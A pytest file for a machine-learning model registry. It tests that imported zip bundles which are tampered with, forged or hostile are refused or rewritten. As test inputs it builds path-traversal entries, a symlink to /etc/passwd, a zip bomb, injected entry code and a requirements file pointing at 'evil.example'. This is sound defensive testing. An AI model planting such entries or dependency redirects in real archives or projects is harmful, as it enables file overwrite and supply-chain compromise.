"""A bundle carries a model to another store, and is refused when it is not what it says."""

import datetime as dt
import hashlib
import json
import re
import shutil
import stat
import subprocess
import sys
import tracemalloc
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from clv.errors import ClvError, ModelError, RegistryError, UsageError
from clv.registry import Registry, export_bundle, golden, import_bundle
from clv.registry.bundles import archive, bundle
from clv.registry.example import golden_rows
from tests.unit.registry.test_store import RECORD, YES, files, logged

TODAY = dt.date(2026, 6, 1)


@pytest.fixture(scope="module")
def store(empty_store, tmp_path_factory, model):
    """Return a registry with one version, which no test changes."""
    folder = tmp_path_factory.mktemp("exporting")
    shutil.copy(empty_store, folder / "mlflow.db")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("clv.registry.golden.check", lambda *args: None)
        registry = Registry.local(folder)
        logged(registry, model)
    return registry


@pytest.fixture(scope="module")
def exported(store, tmp_path_factory):
    path = tmp_path_factory.mktemp("exported") / "model.zip"
    export_bundle(store, store.version(1), path)
    return path


def test_a_model_scores_in_another_store_as_in_its_own(
    exported, empty_store, tmp_path, model, unverified
):
    assert stat.S_IMODE(exported.stat().st_mode) == 0o600
    (tmp_path / "other").mkdir()
    shutil.copy(empty_store, tmp_path / "other" / "mlflow.db")
    other = Registry.local(tmp_path / "other")
    version = import_bundle(other, exported, today=TODAY)
    assert version.verified
    assert version.aliases == ("challenger",)
    assert version.tags["imported_from"] == "models:/clv/1"
    assert version.tags["data_fingerprint"] == "abc"
    assert other.metrics(version)["backtest/blend/gini"] == 0.7
    assert other.document(version, "backtest.json") == {"chosen": "blend"}
    rows = golden_rows(model.info.features, model.info.categories, model.info.training_cutoff)
    loaded = other.load(version.uri).model
    pd.testing.assert_frame_equal(loaded.predict(rows), model.predict(rows))


def test_the_same_version_exports_the_same_bytes(exported, store, tmp_path):
    again = tmp_path / "again.zip"
    export_bundle(store, store.version(1), again)
    assert again.read_bytes() == exported.read_bytes()


@pytest.fixture
def folder(tmp_path):
    path = tmp_path / "unpacked"
    path.mkdir()
    return path


def changed(source, target, change):
    """Copy an archive with its entries changed: a dict of name to bytes, in place."""
    with zipfile.ZipFile(source) as original:
        entries = {name: original.read(name) for name in original.namelist()}
    change(entries)
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in entries.items():
            made.writestr(name, content)
    return target


def forged(source, target, change):
    """Change entries as somebody would who wants to be believed: every hash is made to fit."""

    def consistent(entries):
        change(entries)
        parts = {name.rpartition("/")[2]: data for name, data in entries.items()}
        document = json.loads(parts["model.json"])
        for name in document.get("trees", {}):
            document["trees"][name] = hashlib.sha256(parts[f"{name}.txt"]).hexdigest()
        entries[f"{PARTS}model.json"] = json.dumps(document).encode()
        record = json.loads(entries["bundle.json"])
        record["digests"] = {
            name.removeprefix("model/"): hashlib.sha256(data).hexdigest()
            for name, data in entries.items()
            if name.startswith("model/")
        }
        entries["bundle.json"] = json.dumps(record).encode()

    return changed(source, target, consistent)


PARTS = "model/artifacts/clv/"
VALUE = f"{PARTS}value.txt"


def tamper(entries):
    entries[VALUE] = entries[VALUE].replace(b"leaf_value=", b"leaf_value=1", 1)


def truncate(entries):
    entries[VALUE] = entries[VALUE][:100]


def lose(entries):
    del entries[VALUE]


def add(entries):
    entries["model/artifacts/clv/extra.txt"] = b"x"


def climb(entries):
    entries["model/../../climbed.txt"] = b"x"


def absolute(entries):
    entries["/etc/clv.txt"] = b"x"


def windows(entries):
    entries["model\\..\\..\\x.txt"] = b"x"


def pickled(entries):
    entries["model/artifacts/clv/value.pkl"] = b"x"
    record = json.loads(entries["bundle.json"])
    digest = "2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881"
    record["digests"]["artifacts/clv/value.pkl"] = digest
    entries["bundle.json"] = json.dumps(record).encode()


def no_record(entries):
    del entries["bundle.json"]


def other_format(entries):
    entries["bundle.json"] = entries["bundle.json"].replace(b'"format": 1', b'"format": 9')


def no_json(entries):
    entries["bundle.json"] = b"[1]"


@pytest.mark.parametrize(
    ("change", "match"),
    [
        (tamper, "differs from what was registered"),
        (truncate, "differs from what was registered"),
        (lose, "is missing"),
        (add, "added"),
        (climb, "no file of a model"),
        (absolute, "no file of a model"),
        (windows, "no file of a model"),
        (pickled, "not of a type"),
        (no_record, "not a bundle"),
        (other_format, "format 9"),
        (no_json, "cannot|can be read"),
    ],
)
def test_a_bundle_that_is_not_what_it_says_is_refused(change, match, exported, folder):
    path = changed(exported, folder.parent / "changed.zip", change)
    with pytest.raises(RegistryError, match=match):
        bundle.read(path, folder)
    assert not list(folder.parent.parent.glob("climbed.txt"))


def test_a_link_and_a_bomb_are_refused(exported, folder, tmp_path, monkeypatch):
    linked = tmp_path / "linked.zip"
    with zipfile.ZipFile(exported) as source, zipfile.ZipFile(linked, "w") as target:
        target.writestr("bundle.json", source.read("bundle.json"))
        entry = zipfile.ZipInfo("model/artifacts/clv/value.txt")
        entry.external_attr = (stat.S_IFLNK | 0o777) << 16
        target.writestr(entry, "/etc/passwd")
    with pytest.raises(RegistryError, match="holds a link"):
        bundle.read(linked, folder)
    monkeypatch.setattr(archive, "MAX_BYTES", 1000)
    with pytest.raises(RegistryError, match="unpacks to more"):
        bundle.read(exported, folder)


@pytest.mark.parametrize("content", [b"", b"no archive", b"PK\x03\x04broken"])
def test_what_is_no_archive_is_refused(content, folder, tmp_path):
    (tmp_path / "x.zip").write_bytes(content)
    with pytest.raises(RegistryError, match="is not a bundle"):
        bundle.read(tmp_path / "x.zip", folder)
    with pytest.raises(RegistryError, match="cannot be read"):
        bundle.read(tmp_path / "absent.zip", folder)


@pytest.fixture
def here(empty_store, tmp_path):
    """Return a store that imports."""
    (tmp_path / "here").mkdir()
    shutil.copy(empty_store, tmp_path / "here" / "mlflow.db")
    return Registry.local(tmp_path / "here")


def test_what_mlflow_would_run_is_written_anew(exported, here, tmp_path):
    """An entry, a loader and requirements of the sender's, with hashes that fit: none is run."""
    ran = tmp_path / "ran"

    def hostile(entries):
        run = f"open({str(ran)!r}, 'w').close()\n".encode()
        entries["model/entry.py"] = run + entries["model/entry.py"]
        entries["model/MLmodel"] = re.sub(
            rb"loader_module: \S+", b"loader_module: this", entries["model/MLmodel"]
        )
        assert b"loader_module: this" in entries["model/MLmodel"]
        entries["model/requirements.txt"] = b"--index-url https://evil.example/\nevil==1\n"
        record = json.loads(entries["bundle.json"])
        record["tags"] |= {"verified": "true", "sha256": "{}", "mlflow.user": "root", "x": "y"}
        record["metrics"] |= {"gate/passed": 1.0}
        entries["bundle.json"] = json.dumps(record).encode()

    version = import_bundle(here, forged(exported, tmp_path / "forged.zip", hostile), today=TODAY)
    assert not ran.exists()
    registered = files(here, version)
    own = Path(golden.__file__).with_name("entry.py").read_bytes()
    assert (registered / "entry.py").read_bytes() == own
    assert "loader_module: this" not in (registered / "MLmodel").read_text()
    assert "evil" not in (registered / "requirements.txt").read_text()
    assert version.verified
    assert set(version.tags) == {
        "code_version", "data_fingerprint", "feature_fingerprint", "imported_from", "sha256",
        "verified",
    }  # fmt: skip
    assert "gate/passed" not in here.metrics(version)


def test_a_version_that_fails_its_verification_is_never_promoted(
    exported, here, tmp_path, monkeypatch
):
    def claims_to_be_verified(entries):
        record = json.loads(entries["bundle.json"])
        record["tags"]["verified"] = "true"
        entries["bundle.json"] = json.dumps(record).encode()

    def fails(*args):
        raise RegistryError("predicts otherwise")

    path = forged(exported, tmp_path / "forged.zip", claims_to_be_verified)
    monkeypatch.setattr(golden, "first_load", lambda *args: None)
    with monkeypatch.context() as patch:
        patch.setattr(golden, "check", lambda *args: None)
        good = import_bundle(here, path, today=TODAY)
        assert good.verified
        patch.setattr(golden, "check", fails)
        with pytest.raises(RegistryError, match="predicts otherwise"):
            import_bundle(here, path, today=TODAY)
        # and one that was verified once, and is not any more
        with pytest.raises(RegistryError, match="predicts otherwise"):
            here.verify(good, here.load(good.uri).model, json.loads(good.tags["sha256"]))
    for version in here.versions():
        assert not version.verified
        with pytest.raises(RegistryError, match="was not verified"):
            here.promote(version, YES, champion=None, **RECORD)


def test_what_lies_in_the_store_is_run_only_where_it_was_written_by_this_process(
    here, model, tmp_path, monkeypatch
):
    """Who can write to a shared store can write its hashes too."""
    ran, fetch = tmp_path / "ran", Registry.fetch

    def swapped(registry, version, folder):
        found = fetch(registry, version, folder)
        (found / "entry.py").write_text(f"open({str(ran)!r}, 'w').close()\n")
        return found

    monkeypatch.setattr(Registry, "fetch", swapped)
    with pytest.raises(RegistryError, match=r"entry\.py"):
        logged(here, model)
    assert not ran.exists()
    assert not here.versions()[0].verified


def field(name, value):
    """Return a change of the first number of a field, in every tree of both models."""

    def change(entries):
        for part in ("value.txt", "churn.txt"):
            text = entries[f"{PARTS}{part}"].decode()
            text = re.sub(rf"(\n{name}=)[^ \n]+", rf"\g<1>{value}", text)
            entries[f"{PARTS}{part}"] = resized(text).encode()

    return change


def resized(text):
    """Make the lengths that the frame names those of the trees."""
    blocks = text.partition("\nend of trees")[0].split("\nTree=")[1:]
    sizes = " ".join(str(len(f"Tree={block}\n".encode())) for block in blocks)
    return re.sub(r"tree_sizes=.*", f"tree_sizes={sizes}", text)


def gamma_without_end(entries):
    document = json.loads(entries[f"{PARTS}model.json"])
    document["purchases"]["spend"]["parameters"]["q"] = 1e-300
    entries[f"{PARTS}model.json"] = json.dumps(document).encode()


def future(entries):
    document = json.loads(entries[f"{PARTS}model.json"])
    document["info"]["training_cutoff"] = "9999-12-31"
    entries[f"{PARTS}model.json"] = json.dumps(document).encode()


CRAFTED = {
    "a forecast times exp(59)": field("leaf_value", "59"),
    "learned from the year 9999": future,
    "endless": field("left_child", "0"),
    "aborts": field("split_feature", "99999"),
    "divides by zero": field("internal_count", "0"),
    "leaves of 1e308": field("leaf_value", "1e308"),
    "leaves of nan": field("leaf_value", "nan"),
    "infinite spend": gamma_without_end,
}


@pytest.mark.parametrize("name", CRAFTED)
def test_crafted_models_with_hashes_that_fit_are_refused(
    name, exported, here, tmp_path, monkeypatch
):
    path = forged(exported, tmp_path / "forged.zip", CRAFTED[name])
    if name != "endless":  # one of them in a process of its own
        monkeypatch.setattr(golden, "first_load", lambda parts, where: golden.load(parts))
    with pytest.raises(ModelError) as caught:
        import_bundle(here, path, today=TODAY)
    assert caught.value.exit_code == 4
    assert "\n" not in str(caught.value)
    assert not here.versions()


def test_a_first_load_that_does_not_end_or_is_killed_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(golden, "TIMEOUT_SECONDS", 0.2)
    with pytest.raises(ModelError, match="did not load and score within"):
        golden.first_load(tmp_path, "bundle x")
    monkeypatch.setattr(
        golden, "_fresh", lambda *args: subprocess.CompletedProcess([], -11, "", "noise")
    )
    with pytest.raises(ModelError, match="signal 11"):
        golden.first_load(tmp_path, "bundle x")


def test_the_fresh_process_is_held_to_its_limits():
    code = (
        "from clv.registry import golden\n"
        "golden.MEMORY_BYTES = 2**31\n"
        "golden.limited()\n"
        "bytearray(2**32)\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert "MemoryError" in done.stderr


def test_a_bomb_is_refused_before_it_is_unpacked(exported, folder, tmp_path):
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(exported) as source, zipfile.ZipFile(bomb, "w", 8) as target:
        target.writestr("bundle.json", source.read("bundle.json"))
        with target.open(VALUE, "w", force_zip64=True) as file:
            for _ in range(200):
                file.write(bytes(2**20))
    assert bomb.stat().st_size < 2**20
    tracemalloc.start()
    with pytest.raises(RegistryError, match="unpacks to more"):
        bundle.read(bomb, folder)
    assert tracemalloc.get_traced_memory()[1] < 2**23
    tracemalloc.stop()
    assert not list(folder.iterdir())


def many_names(entries):
    entries |= {f"{PARTS}x{k}.txt": b"" for k in range(100)}


def long_names(entries):
    entries |= {f"{PARTS}{'x' * 20_000}{k}.txt": b"" for k in range(5)}


def two_cases(entries):
    entries[f"{PARTS}VALUE.txt"] = b""


def deep(entries):
    entries["bundle.json"] = b'{"format":' + b"[" * 100_000


def huge_integer(entries):
    entries["bundle.json"] = entries["bundle.json"].replace(b"0.24", b"9" * 5000)


def edit(**fields):
    def change(entries):
        record = json.loads(entries["bundle.json"])
        for name, value in fields.items():
            record[name] |= value
        entries["bundle.json"] = json.dumps(record).encode()

    return change


@pytest.mark.parametrize(
    "change",
    [
        many_names, long_names, two_cases, deep, huge_integer,
        edit(metrics={"backtest/blend/gini": float("nan")}),
        edit(metrics={"backtest/blend/gini": 10**400}),
        edit(metrics={"backtest/../../x": 1.0}),
        edit(parameters={"a\x00b": "1"}),
        edit(parameters={"a": "\ud800"}),
        edit(tags={"a": 1}),
        edit(documents={"../../escaped.json": {}}),
        edit(documents={"backtest.json": [1]}),
        edit(documents={"training.json": {"chosen": 5, "interval_level": "high"}}),
        edit(digests={"artifacts/clv/value.txt": "0"}),
    ],
)  # fmt: skip
def test_a_record_of_another_kind_is_refused(change, exported, folder, tmp_path):
    path = changed(exported, tmp_path / "changed.zip", change)
    with pytest.raises(RegistryError) as caught:
        bundle.read(path, folder)
    assert "\n" not in str(caught.value)
    assert len(str(caught.value)) < 600


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_other_methods_of_packing_are_refused(method, exported, folder, tmp_path):
    path = tmp_path / "packed.zip"
    with zipfile.ZipFile(exported) as source, zipfile.ZipFile(path, "w", method) as target:
        for name in source.namelist():
            target.writestr(name, source.read(name))
    with pytest.raises(RegistryError, match="method"):
        bundle.read(path, folder)


def test_an_archive_with_something_behind_it_is_refused(exported, folder, tmp_path):
    path = tmp_path / "behind.zip"
    path.write_bytes(exported.read_bytes() + b"more")
    with pytest.raises(RegistryError, match="is not a bundle"):
        bundle.read(path, folder)


@pytest.fixture(scope="module")
def keys(tmp_path_factory):
    """Return two pairs of keys in OpenSSH's and PEM's form, and a file of the first public one."""
    from cryptography.hazmat.primitives import serialization as s
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    folder = tmp_path_factory.mktemp("keys")
    forms = {"ana": s.PrivateFormat.OpenSSH, "bo": s.PrivateFormat.PKCS8}
    for name, form in forms.items():
        private = Ed25519PrivateKey.from_private_bytes(name.ljust(32).encode())
        (folder / name).write_bytes(private.private_bytes(s.Encoding.PEM, form, s.NoEncryption()))
        public = private.public_key().public_bytes(s.Encoding.OpenSSH, s.PublicFormat.OpenSSH)
        (folder / f"{name}.pub").write_bytes(public + f" {name}@example\n".encode())
    (folder / "keys.pub").write_bytes(b"# who may\n\n" + (folder / "ana.pub").read_bytes())
    return folder


def signed(store, keys, tmp_path, name):
    path = tmp_path / f"{name}.zip"
    export_bundle(store, store.version(1), path, keys / name)
    return path


def trusted(keys, name="keys.pub"):
    from clv.registry.bundles import signing

    return signing.trusted_keys(keys / name)


def test_a_signature_says_who_exported_it(store, exported, keys, folder, tmp_path):
    path = signed(store, keys, tmp_path, "ana")
    assert bundle.read(path, folder, trusted(keys))[1] == "ana@example"
    assert signed(store, keys, tmp_path, "ana").read_bytes() == path.read_bytes()
    again = tmp_path / "unasked"
    again.mkdir()
    assert bundle.read(path, again)[1] is None


def retold(entries):
    record = json.loads(entries["bundle.json"])
    record["metrics"]["backtest/blend/gini"] = 0.99
    entries["bundle.json"] = json.dumps(record).encode()


def no_signature(entries):
    entries["signature.json"] = b'{"algorithm": "none"}'


def test_a_bundle_that_nobody_trusted_signed_is_refused(store, exported, keys, folder, tmp_path):
    known = trusted(keys)
    cases = {
        exported: "is not signed",
        signed(store, keys, tmp_path, "bo"): "not among them",
        changed(signed(store, keys, tmp_path, "ana"), tmp_path / "a.zip", retold): "not that of",
        changed(signed(store, keys, tmp_path, "ana"), tmp_path / "b.zip", no_signature): "read",
    }
    for path, match in cases.items():
        with pytest.raises(RegistryError, match=match):
            bundle.read(path, folder, known)
    assert not list(folder.iterdir())


def test_what_is_no_key_is_said(store, keys, tmp_path):
    from clv.registry.bundles import signing

    (tmp_path / "words").write_text("ssh-ed25519 not a key")
    (tmp_path / "empty").write_text("# nobody\n")
    for path in (tmp_path / "words", tmp_path / "empty", tmp_path / "absent", keys / "ana"):
        with pytest.raises(UsageError):
            signing.trusted_keys(path)
    for path in (tmp_path / "words", tmp_path / "absent", keys / "ana.pub"):
        with pytest.raises(UsageError):
            export_bundle(store, store.version(1), tmp_path / "x.zip", path)
    assert not (tmp_path / "x.zip").exists()


def test_a_training_document_without_its_facts_is_a_registry_error(store):
    with pytest.raises(ClvError) as caught:
        store.trained(store.version(1))
    assert caught.value.exit_code == 6
